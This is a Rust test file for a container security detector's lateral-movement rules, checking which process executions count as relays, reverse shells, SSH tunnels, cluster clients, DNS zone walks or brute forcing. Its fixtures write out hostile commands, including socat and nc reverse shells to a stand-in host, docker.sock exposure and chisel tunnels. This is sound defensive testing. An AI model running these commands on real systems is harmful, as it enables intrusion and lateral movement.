//! Programs that are executed to reach others.

use super::*;
use crate::detect::Class;
use crate::detect::testing::{outside, process};
use crate::event::ExecId;
use crate::process::Process;

/// Rules of the class that an execution below the entrypoint's shell is found by.
fn executed(exe: &str, args: &[&str]) -> Vec<&'static str> {
    found(scene("acme/app", exe).below(&["/bin/bash", "/bin/sh"]), args)
}

fn found(mut scene: Scene, args: &[&str]) -> Vec<&'static str> {
    let payload = scene.executed(args);
    of_class(&mut scene, payload)
}

fn of_class(scene: &mut Scene, payload: Payload) -> Vec<&'static str> {
    scene.rules_of(Class::Lateral, payload)
}

#[test]
fn relays_by_what_they_are_told() {
    let relays: [(&str, &[&str]); 8] = [
        (
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:7800,fork,reuseaddr", "TCP:10.0.0.9:80"],
        ),
        (
            "/usr/bin/socat",
            &["socat", "-d", "-d", "tcp4-l:80,fork", "openssl:10.0.0.9:443"],
        ),
        (
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:2375", "UNIX-CONNECT:/var/run/docker.sock"],
        ),
        (
            "/usr/bin/ncat",
            &["ncat", "-lk", "7800", "--sh-exec", "ncat 10.0.0.9 80"],
        ),
        (
            "/usr/bin/nc.traditional",
            &["nc", "-lvp", "7800", "-e", "/bin/sh"],
        ),
        ("/opt/chisel", &["chisel", "client", "203.0.113.9:443", "R:socks"]),
        ("/usr/bin/python3", &["/usr/local/bin/pwncat", "-l", "4444"]),
        ("/usr/sbin/rinetd", &["rinetd"]),
    ];
    for (exe, args) in relays {
        assert_eq!(executed(exe, args), ["relay_tool"], "{args:?}");
    }
    for args in [
        &["socat", "-", "TCP4:localhost:8080"][..],
        &["socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/cat"],
        &["nc", "-z", "db", "5432"],
        &["nc", "-w", "3", "db", "5432"],
        &["chisel", "--version"],
    ] {
        let exe = format!("/usr/bin/{}", args[0]);
        assert!(executed(&exe, args).is_empty(), "{args:?}");
    }
}

#[test]
fn a_shell_at_the_other_end_of_socat_is_a_reverse_shell() {
    for args in [
        &["socat", "TCP:203.0.113.9:443", "EXEC:bash -li,pty,stderr,setsid"][..],
        &["socat", "exec:/bin/sh", "openssl:203.0.113.9:443,verify=0"],
        &["socat", "-d", "UDP4:203.0.113.9:53", "SYSTEM:id; sh"],
    ] {
        assert_eq!(executed("/usr/bin/socat", args), ["reverse_shell"], "{args:?}");
    }
    for args in [
        &["socat", "TCP:203.0.113.9:443", "EXEC:/usr/bin/backup"][..],
        &["socat", "TCP:localhost:443", "EXEC:sh"],
        &["socat", "UNIX-CONNECT:/run/a.sock", "EXEC:bash"],
        &["socat", "-", "TCP:203.0.113.9:443"],
    ] {
        assert!(executed("/usr/bin/socat", args).is_empty(), "{args:?}");
    }
}

#[test]
fn tunnels_however_the_options_are_joined() {
    for args in [
        &[
            "ssh",
            "-N",
            "-o",
            "BatchMode=yes",
            "-R",
            "8888:127.0.0.1:80",
            "a@10.0.0.9",
        ][..],
        &["ssh", "-R8888:127.0.0.1:80", "a@10.0.0.9"],
        &["ssh", "-fNR", "8888:127.0.0.1:80", "a@10.0.0.9"],
        &["ssh", "a@10.0.0.9", "-D", "1080"],
        &["ssh", "-o", "remoteforward 8888 127.0.0.1:80", "a@10.0.0.9"],
        &["ssh", "-oDynamicForward=1080", "a@10.0.0.9"],
        &["autossh", "-M", "0", "-L", "80:db:80", "a@10.0.0.9"],
        &["plink", "-ssh", "-pw", "x", "10.0.0.9", "-R", "80:127.0.0.1:80"],
        &["dbclient", "-L", "80:db:80", "a@10.0.0.9"],
    ] {
        let exe = format!("/usr/bin/{}", args[0]);
        assert_eq!(executed(&exe, args), ["ssh_tunnel"], "{args:?}");
    }
    for args in [
        &[
            "ssh",
            "-o",
            "SendEnv=GIT_PROTOCOL",
            "git@example.com",
            "git-upload-pack 'x'",
        ][..],
        &["ssh", "-i", "-R", "a@10.0.0.9"],
        &["ssh", "-p", "22", "a@10.0.0.9", "ls", "-R", "-L"],
        &["ssh", "-o", "BatchMode=yes", "-J", "jump", "a@10.0.0.9", "true"],
    ] {
        assert!(executed("/usr/bin/ssh", args).is_empty(), "{args:?}");
    }
}

#[test]
fn clients_of_clusters_by_any_of_their_names() {
    assert_eq!(
        executed("/usr/bin/kubectl", &["kubectl", "get", "pods"]),
        ["control_client"]
    );
    assert_eq!(executed("/tmp/x", &["docker", "ps"]), ["control_client"]);
    let mut linked = scene("acme/app", "/bin/busybox").below(&["/bin/bash"]);
    linked.exe.args = "/tmp/kubectl".into();
    let exec = Exec {
        filename: "/tmp/kubectl".into(),
        ..linked.exec()
    };
    assert_eq!(of_class(&mut linked, Payload::Exec(exec)), ["control_client"]);
    let own = scene("bitnami/kubectl", "/usr/bin/kubectl");
    assert!(
        found(own, &["kubectl", "version"]).is_empty(),
        "the container's own program"
    );
    let dind = scene("docker:dind", "/usr/bin/docker").below(&["/bin/sh"]);
    assert!(found(dind, &["docker", "ps"]).is_empty());
    let below = || scene("acme/ci", "/usr/bin/docker").below(&["/bin/sh"]);
    let learned = below().with_profile("exec: [{path: /usr/bin/docker}]");
    assert!(found(learned, &["docker", "ps"]).is_empty());
    let other = below().with_profile("exec: [{path: /bin/sh}]");
    assert_eq!(found(other, &["docker", "ps"]), ["control_client"]);
    assert!(executed("/usr/bin/dockerize", &["dockerize", "-wait", "tcp://db:5432"]).is_empty());
}

#[test]
fn who_asks_for_everything_walks_a_zone() {
    for args in [
        &["dig", "+time=1", "@10.0.0.10", "SRV", "any.any.svc.cluster.local"][..],
        &["dig", "@10.0.0.10", "test", "AXFR"],
        &["host", "-t", "axfr", "test", "10.0.0.10"],
        &["nslookup", "-type=SRV", "default.svc.cluster.local"],
    ] {
        let exe = format!("/usr/bin/{}", args[0]);
        assert_eq!(executed(&exe, args), ["zone_walk"], "{args:?}");
    }
    for args in [
        &["dig", "@10.0.0.10", "x.example"][..],
        &["dig", "SRV", "_http._tcp.web.shop.svc.cluster.local"],
        &["dig", "web.shop.svc.cluster.local"],
    ] {
        assert!(executed("/usr/bin/dig", args).is_empty(), "{args:?}");
    }
}

#[test]
fn guessing_by_its_tools_and_by_different_logins() {
    assert_eq!(
        executed("/usr/bin/hydra", &["hydra", "-l", "root", "10.0.0.9"]),
        ["brute_force"]
    );
    let logins = |users: &[&str]| {
        let mut scene = scene("acme/app", "/usr/bin/ssh").below(&["/bin/bash", "/bin/sh"]);
        let mut rules = Vec::new();
        for user in users {
            scene.exe.args = format!("ssh\0-o\0BatchMode=yes\0{user}@10.0.0.9\0true")
                .as_str()
                .into();
            let exec = scene.exec();
            rules.extend(of_class(&mut scene, Payload::Exec(exec)));
        }
        rules
    };
    assert_eq!(
        logins(&["u1", "u2", "u3", "u4", "u5", "u6"]),
        ["brute_force", "brute_force"]
    );
    assert!(logins(&["git"; 8]).is_empty());
}

/// The actor becomes a part of a pipeline that a shell executed; every part is a process of its own.
fn part(scene: &mut Scene, (exe, number): (&str, u64), args: &[&str]) {
    scene.exe = Process {
        exec_id: ExecId(number),
        parent: ExecId(1),
        host_pid: 5000 + u32::try_from(number).unwrap(),
        args: args.join("\0").as_str().into(),
        ..process(exe)
    };
    let above = Process {
        exec_id: ExecId(1),
        host_pid: 5000,
        ..process("/bin/dash")
    };
    scene.ancestors = vec![
        Arc::new(above),
        Arc::new(outside("/usr/bin/containerd-shim-runc-v2")),
    ];
}

fn shell_and_carrier(shell: &[&str], carrier: &[&str], shell_first: bool) -> Vec<&'static str> {
    let mut scene = scene("acme/app", "/bin/sh");
    let mut rules = Vec::new();
    for is_shell in [shell_first, !shell_first] {
        scene.now_ns += SECOND;
        if is_shell {
            part(&mut scene, ("/bin/dash", 10), shell);
            let exec = scene.exec();
            rules.extend(of_class(&mut scene, Payload::Exec(exec)));
        } else {
            part(
                &mut scene,
                (format!("/usr/bin/{}", carrier[0]).as_str(), 11),
                carrier,
            );
            let exec = scene.exec();
            rules.extend(of_class(&mut scene, Payload::Exec(exec)));
            rules.extend(of_class(&mut scene, connect("203.0.113.9", 443)));
        }
    }
    rules
}

#[test]
fn a_shell_behind_a_pipe_and_a_connection_are_a_reverse_shell() {
    for first in [true, false] {
        for shell in [&["/bin/sh", "-i"][..], &["sh"], &["bash", "--norc"]] {
            for carrier in [
                &["nc", "-q1", "203.0.113.9", "443"][..],
                &["telnet", "203.0.113.9", "443"],
                &["openssl", "s_client", "-quiet", "-connect", "203.0.113.9:443"],
            ] {
                let found = shell_and_carrier(shell, carrier, first);
                assert_eq!(found, ["reverse_shell"], "{shell:?} {carrier:?}");
            }
        }
    }
}

#[test]
fn a_shell_that_a_connected_script_executes_is_a_reverse_shell() {
    let executes = |script: &str, peer: &str, shell: &[&str]| {
        let mut scene = scene("acme/app", script);
        scene.exe = Process {
            exec_id: ExecId(1),
            host_pid: 5000,
            ..process(script)
        };
        scene.inspect(connect(peer, 443));
        scene.now_ns += SECOND;
        part(&mut scene, ("/bin/dash", 10), shell);
        let exec = scene.exec();
        of_class(&mut scene, Payload::Exec(exec))
    };
    let told = |script, peer, shell| executes(script, peer, shell) == ["reverse_shell"];
    assert!(told("/usr/bin/python3.11", "203.0.113.9", &["/bin/sh"]));
    assert!(told("/usr/bin/perl", "203.0.113.9", &["bash", "-i"]));
    assert!(!told("/usr/bin/python3", "203.0.113.9", &["sh", "-c", "id"]));
    assert!(!told("/usr/bin/python3", "127.0.0.1", &["sh"]));
    assert!(
        !told("/usr/bin/ssh", "203.0.113.9", &["sh"]),
        "a session elsewhere"
    );
}

#[test]
fn pipelines_of_entrypoints_are_no_reverse_shell() {
    let pipelines: [(&[&str], &[&str]); 5] = [
        (&["sh", "/entrypoint.sh"], &["nc", "203.0.113.9", "443"]),
        (&["sh", "-c", "id"], &["nc", "203.0.113.9", "443"]),
        (&["sh"], &["nc", "-z", "203.0.113.9", "443"]),
        (&["sh"], &["curl", "https://203.0.113.9/install"]),
        (&["sh"], &["openssl", "req", "-x509"]),
    ];
    for (shell, carrier) in pipelines {
        let found = shell_and_carrier(shell, carrier, false);
        assert!(found.is_empty(), "{shell:?} {carrier:?}");
    }
    let mut scene = scene("acme/app", "/bin/sh");
    part(
        &mut scene,
        ("/usr/bin/nc", 11),
        &["nc", "-w1", "203.0.113.9", "443"],
    );
    scene.inspect(connect("203.0.113.9", 443));
    part(&mut scene, ("/bin/dash", 10), &["sh"]);
    scene.exe.host_pid = 5000;
    let exec = scene.exec();
    let found = of_class(&mut scene, Payload::Exec(exec));
    assert!(found.is_empty(), "in its parent's place");
    scene.now_ns += 61 * SECOND;
    part(&mut scene, ("/bin/dash", 12), &["sh"]);
    let exec = scene.exec();
    let found = of_class(&mut scene, Payload::Exec(exec));
    assert!(found.is_empty(), "long after");
}

#[test]
fn two_carriers_of_one_pipeline_are_a_relay() {
    let mut scene = scene("acme/app", "/bin/sh");
    part(&mut scene, ("/usr/bin/nc", 10), &["nc", "-l", "-p", "7800"]);
    scene.inspect(crate::detect::testing::listen("0.0.0.0", 7800));
    part(&mut scene, ("/usr/bin/nc", 11), &["nc", "10.0.0.9", "80"]);
    assert_eq!(of_class(&mut scene, connect("10.0.0.9", 80)), ["relay_tool"]);
}
